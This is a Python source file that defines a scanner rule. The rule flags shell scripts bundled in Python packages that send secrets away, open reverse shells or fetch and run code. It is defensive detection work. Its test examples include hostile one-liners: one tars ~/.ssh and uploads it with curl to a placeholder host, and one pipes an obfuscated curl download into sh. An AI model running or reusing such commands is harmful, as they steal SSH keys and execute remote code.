"""Shell payload: scripts beside the Python code that attack whoever runs them."""

from __future__ import annotations

from collections.abc import Iterator

from pratique.facts.model import PackageFacts
from pratique.facts.shell import ShellFacts
from pratique.finding import Behaviour, Confidence, Finding, Phase, Severity
from pratique.rules.claims import is_aside
from pratique.rules.rule import Example, Rule

_ID = "shell-payload"
_AT_MOST = 3


def _check(facts: PackageFacts) -> Iterator[Finding]:
    weighed = [(w, shell) for shell in facts.shells if (w := _weight(shell))]
    weighed.sort(key=lambda pair: (-pair[0][0] * pair[0][1], pair[1].path))
    for (severity, confidence, what), shell in weighed[:_AT_MOST]:
        yield Finding(
            rule=_ID,
            behaviour=Behaviour.SECOND_STAGE if shell.runs_download else Behaviour.EXECUTION,
            severity=severity,
            confidence=Confidence.LOW if is_aside(facts, shell.path) else confidence,
            phase=Phase.NONE,
            path=shell.path,
            line=shell.line,
            message=f"a script {what}",
            layers=shell.layers,
            code=shell.code,
        )


def _weight(shell: ShellFacts) -> tuple[Severity, Confidence, str] | None:
    if shell.steals:
        return Severity.HIGH, Confidence.MEDIUM, f"sends away {', '.join(shell.reads_secrets[:3]) or 'secrets'}"
    if shell.reverse_shell:
        return Severity.HIGH, Confidence.LOW, "hands a shell to another machine"
    if shell.runs_decoded and (shell.runs_download or shell.hidden):
        return Severity.HIGH, Confidence.MEDIUM, "runs an encoded command that is hidden or fetches more"
    if shell.disarms or shell.destroys:
        return (
            Severity.MEDIUM,
            Confidence.LOW,
            f"changes the system: {', '.join((*shell.disarms, *shell.destroys)[:3])}",
        )
    if shell.runs_download:
        return Severity.LOW, Confidence.LOW, "fetches and runs something"
    return None


RULE = Rule(
    id=_ID,
    behaviour=Behaviour.EXECUTION,
    also=(Behaviour.SECOND_STAGE,),
    summary="A script in the distribution attacks whoever runs it.",
    gain="Python code need only start it.",
    honest="Build and continuous-integration scripts fetch installers: nobody runs them on installation, "
    "so fetching weighs next to nothing.",
    check=_check,
    loud=(
        Example(
            title="keys sent away",
            files={
                "example_pkg/__init__.py": "",
                "example_pkg/x.sh": "tar czf /tmp/a.tgz ~/.ssh\ncurl -F f=@/tmp/a.tgz https://h.example.invalid/\n",
            },
        ),
        Example(
            title="fetched and run, with the word split by quotes",
            files={"example_pkg/__init__.py": "", "example_pkg/x.sh": "c''url http://h.example.invalid/x | sh\n"},
        ),
    ),
    quiet=(
        Example(
            title="a build script",
            files={"example_pkg/__init__.py": "", "build.sh": "#!/bin/sh\nset -e\nrm -rf build/\npython -m build\n"},
        ),
    ),
)
